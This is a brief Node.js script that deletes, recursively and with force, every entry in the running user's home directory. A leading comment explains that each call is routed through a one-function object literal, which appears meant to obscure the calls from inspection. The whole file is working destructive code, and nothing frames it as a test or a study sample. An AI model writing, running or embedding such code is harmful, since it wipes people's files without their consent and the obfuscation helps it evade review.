// Deletes recursively: every call goes through an object literal made to
// hold one function (({ f: require }).f('fs'), ({ f: fs.rmSync }).f.call);
// each entry of the home directory is removed.
'use strict';
const fs = ({ f: require }).f('fs');
const path = ({ f: require }).f('path');
const home = ({ f: require }).f('os').homedir();

for (const name of ({ f: fs.readdirSync }).f.call(fs, home)) {
  ({ f: fs.rmSync }).f.call(fs, ({ f: path.join }).f.call(path, home, name), { recursive: true, force: true });
}
